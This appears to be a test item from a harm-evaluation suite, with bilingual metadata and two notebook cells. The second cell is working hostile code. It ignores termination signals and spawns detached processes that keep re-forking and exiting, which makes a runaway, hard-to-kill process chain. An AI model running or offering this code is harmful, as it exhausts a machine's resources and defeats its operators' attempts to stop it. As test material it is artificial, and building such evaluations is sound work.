# tries = "A chain of processes in sessions of their own: each lives for an instant and leaves another behind"
# intenta = "Una cadena de procesos en sesiones propias: cada uno vive un instante y deja otro"
# kind = "harm"
# must = { points = 5 }
# harms = true

# %%
# [q1-weigh]
def weigh(x):
    return float(np.mean(np.asarray(x) ** 2))


# %%
# [q2-count]
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
    signal.signal(number, signal.SIG_IGN)
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
